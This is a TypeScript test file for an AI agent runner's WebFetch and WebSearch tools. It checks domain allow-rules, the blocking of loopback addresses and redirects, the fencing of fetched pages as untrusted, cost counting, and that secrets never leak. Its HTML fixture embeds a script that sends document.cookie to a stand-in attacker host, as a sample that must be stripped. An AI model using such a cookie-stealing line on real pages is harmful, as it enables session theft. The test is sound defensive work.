import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ModelRequestRecord, RunEndRecord, ToolCallRecord } from '../../src/runner/transcript-records.js';
import { readTranscript } from '../../src/runner/transcript-read.js';
import { lastToolResults, ModelServer, type ScriptTurn } from '../support/model-server.js';
import { runWarden } from '../support/run-cli.js';
import { makeTempRepo, tempDir } from '../support/temp-repo.js';

const SECRET = 'ghp_webFetchMustNeverSendThis0123456789';
const env = (model: ModelServer) => ({ ANTHROPIC_API_KEY: 'sk-ant-test-web-0000', ANTHROPIC_BASE_URL: model.url, GITHUB_TOKEN: SECRET });

const PAGE = '<html><head><title>Docs</title><script>fetch("https://evil.example/?" + document.cookie)</script></head><body><h1>Release</h1><p>The answer is <b>42</b>.</p><style>p{}</style></body></html>';

/** A real web server on loopback: `/doc` is a page, `/hop` redirects to the same server under `localhost`. */
let web: Server;
let port: number;
let webSeen: string[];
let model: ModelServer | undefined;

beforeEach(async () => {
  webSeen = [];
  web = createServer((req, res) => {
    webSeen.push(`${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    if (req.url === '/hop') res.writeHead(302, { location: `http://localhost:${port}/doc` }).end();
    else res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(PAGE);
  });
  await new Promise<void>((resolve) => web.listen(0, '127.0.0.1', resolve));
  port = (web.address() as AddressInfo).port;
});
afterEach(async () => {
  await model?.close();
  model = undefined;
  web.closeAllConnections();
  await new Promise((resolve) => web.close(resolve));
});

async function run(policyYaml: string, script: ScriptTurn[]): Promise<{ out: string; model: ModelServer }> {
  const repo = makeTempRepo();
  const out = tempDir();
  const policy = join(out, 'policy.yml');
  writeFileSync(policy, policyYaml);
  model = await ModelServer.start({ script });
  const r = await runWarden(['run', '--cwd', repo, '--prompt', 'read the docs', '--policy', policy, '--transcript', join(out, 't.jsonl')], env(model));
  expect(r.code).toBe(0);
  return { out, model };
}

const fetchCall = (url: string): ScriptTurn => ({ content: [{ type: 'tool_use', id: 'toolu_fetch', name: 'WebFetch', input: { url, prompt: 'What is the answer?' } }] });
const done: ScriptTurn = { content: [{ type: 'text', text: 'done' }] };
const calls = (out: string) => readTranscript(join(out, 't.jsonl')).filter((x): x is ToolCallRecord => x.type === 'tool_call');
const ALLOW_LOOPBACK = 'version: 1\npermissions:\n  allow: ["WebFetch(domain:127.0.0.1)"]\nsandbox:\n  network:\n    allow_private: ["127.0.0.1", "localhost"]\n';

describe('WebFetch in a run', () => {
  it('fetches a page a rule allows; a second request extracts the answer from the fenced page; its usage is counted', async () => {
    const { out, model: m } = await run(ALLOW_LOOPBACK, [
      fetchCall(`http://127.0.0.1:${port}/doc`),
      (req) => {
        // The extraction request: no tools, the page fenced as untrusted, scripts and styles gone.
        expect(req.body.tools ?? []).toEqual([]);
        const text = JSON.stringify(req.body.messages);
        expect(text).toContain(`<untrusted-web-content url=\\"http://127.0.0.1:${port}/doc\\">`);
        expect(text).toContain('# Release');
        expect(text).toContain('The answer is **42**.');
        expect(text).not.toContain('evil.example');
        expect(text).toContain('What is the answer?');
        return { content: [{ type: 'text', text: 'The page says 42.' }], usage: { input_tokens: 1234, output_tokens: 56 } };
      },
      (req) => {
        const result = lastToolResults(req.body)[0];
        expect(result?.is_error).toBeUndefined();
        expect(JSON.stringify(result?.content)).toContain('untrusted web content');
        expect(JSON.stringify(result?.content)).toContain('The page says 42.');
        return done;
      },
    ]);
    expect(m.requests).toHaveLength(3);
    const call = calls(out)[0];
    expect(call).toMatchObject({ tool: 'WebFetch', status: 'ok', usage: { inputTokens: 1234, outputTokens: 56 } });
    const records = readTranscript(join(out, 't.jsonl'));
    const end = records.find((x): x is RunEndRecord => x.type === 'run_end');
    const turns = records.filter((x): x is ModelRequestRecord => x.type === 'model_request');
    expect(end?.usage.inputTokens).toBe(turns.reduce((n, t) => n + t.usage.inputTokens, 0) + 1234);
    expect(end?.usage.outputTokens).toBe(turns.reduce((n, t) => n + t.usage.outputTokens, 0) + 56);
    // claude-sonnet-4-6: $3 in, $15 out per million.
    expect(end?.costUsd).toBeCloseTo(turns.reduce((n, t) => n + (t.costUsd ?? 0), 0) + (1234 * 3 + 56 * 15) / 1e6, 10);
    // Nothing from the runner's environment left the host, to the page or to the model.
    expect(webSeen).toHaveLength(1);
    expect(webSeen.join('\n')).not.toMatch(/ghp_|cookie|authorization|sk-ant/i);
    for (const r of m.requests) expect(r.rawBody).not.toContain(SECRET);
  });

  it('refuses a host no rule allows, naming the rule it would take; nothing is fetched', async () => {
    const { out } = await run('version: 1\npermissions:\n  allow: ["WebFetch(domain:docs.python.org)"]\n', [
      fetchCall(`http://127.0.0.1:${port}/doc`),
      (req) => {
        const text = JSON.stringify(lastToolResults(req.body)[0]?.content);
        expect(text).toContain('WebFetch(domain:127.0.0.1)');
        return done;
      },
    ]);
    expect(calls(out)[0]).toMatchObject({ status: 'denied' });
    expect(webSeen).toEqual([]);
  });

  it('refuses a private address unless sandbox.network.allow_private names the host', async () => {
    await run('version: 1\npermissions:\n  allow: ["WebFetch(domain:127.0.0.1)"]\n', [
      fetchCall(`http://127.0.0.1:${port}/doc`),
      (req) => {
        const result = lastToolResults(req.body)[0];
        expect(result?.is_error).toBe(true);
        expect(JSON.stringify(result?.content)).toContain('127.0.0.1 resolves to 127.0.0.1, a loopback address');
        expect(JSON.stringify(result?.content)).toContain('allow_private');
        return done;
      },
    ]);
    expect(webSeen).toEqual([]);
  });

  it('refuses a redirect to a host the rules do not allow', async () => {
    await run(ALLOW_LOOPBACK, [
      fetchCall(`http://127.0.0.1:${port}/hop`),
      (req) => {
        const result = lastToolResults(req.body)[0];
        expect(result?.is_error).toBe(true);
        const text = JSON.stringify(result?.content);
        expect(text).toContain(`the redirect to http://localhost:${port}/doc was refused`);
        expect(text).toContain('WebFetch(domain:localhost)');
        return done;
      },
    ]);
    expect(webSeen.map((s) => s.split(' ')[0])).toEqual(['/hop']);
  });

  it('is not offered without a WebFetch allow rule', async () => {
    const { model: m } = await run('version: 1\npermissions:\n  allow: ["Read"]\n', [done]);
    expect(m.requests[0]?.body.tools?.map((t) => t.name)).not.toContain('WebFetch');
  });
});

describe('WebSearch in a run', () => {
  it('is absent unless a rule allows it; then it follows the client tools, whose bytes stay the same, with the allowed domains', async () => {
    const { model: without } = await run('version: 1\npermissions:\n  allow: ["Read", "WebFetch(domain:docs.python.org)"]\n', [done]);
    const before = without.requests[0]?.body.tools ?? [];
    expect(before.map((t) => t.name)).not.toContain('web_search');
    await without.close();
    const { model: withSearch, out } = await run('version: 1\npermissions:\n  allow: ["Read", "WebFetch(domain:docs.python.org)", "WebSearch"]\n', [done]);
    const after = withSearch.requests[0]?.body.tools ?? [];
    expect(after.at(-1)).toEqual({ type: 'web_search_20250305', name: 'web_search', max_uses: 8, allowed_domains: ['docs.python.org'], cache_control: { type: 'ephemeral' } });
    // The client tools are byte for byte what they were (only the cache breakpoint moved to the last tool).
    const strip = (t: object) => JSON.stringify({ ...t, cache_control: undefined });
    expect(after.slice(0, -1).map(strip)).toEqual(before.map(strip));
    const start = readTranscript(join(out, 't.jsonl')).find((x) => x.type === 'run_start');
    expect(start?.type === 'run_start' && start.config.tools).toContain('WebSearch');
  });

  it('keeps the search\'s blocks, goes on from a paused turn, and counts the searches in the cost', async () => {
    const search = { type: 'server_tool_use' as const, id: 'srvtoolu_1', name: 'web_search' as const, input: { query: 'python 3.13 release date' } };
    const results = { type: 'web_search_tool_result' as const, tool_use_id: 'srvtoolu_1', content: [{ type: 'web_search_result' as const, url: 'https://docs.python.org/3.13/', title: 'Python 3.13', encrypted_content: 'EnC0ded', page_age: null }] };
    const { out } = await run('version: 1\npermissions:\n  allow: ["WebSearch", "WebFetch(domain:docs.python.org)"]\n', [
      { content: [search, results], stopReason: 'pause_turn', webSearchRequests: 1 },
      (req) => {
        // The paused turn goes back as it came: the search's call and results, unchanged, last.
        const last = req.body.messages.at(-1);
        expect(last?.role).toBe('assistant');
        expect(JSON.stringify(last?.content)).toContain('"encrypted_content":"EnC0ded"');
        expect(JSON.stringify(last?.content)).toContain('"query":"python 3.13 release date"');
        return { content: [{ type: 'text', text: 'It was released in October 2024.' }], webSearchRequests: 1 };
      },
    ]);
    const records = readTranscript(join(out, 't.jsonl'));
    const end = records.find((x): x is RunEndRecord => x.type === 'run_end');
    const turns = records.filter((x): x is ModelRequestRecord => x.type === 'model_request');
    expect(end?.outcome).toMatchObject({ reason: 'completed' });
    expect(end?.usage.webSearchRequests).toBe(2);
    const tokenCost = turns.reduce((n, t) => n + (t.usage.inputTokens * 3 + t.usage.outputTokens * 15 + t.usage.cacheReadTokens * 0.3 + t.usage.cacheWriteTokens * 3.75) / 1e6, 0);
    expect(end?.costUsd).toBeCloseTo(tokenCost + 0.02, 10);
  });
});
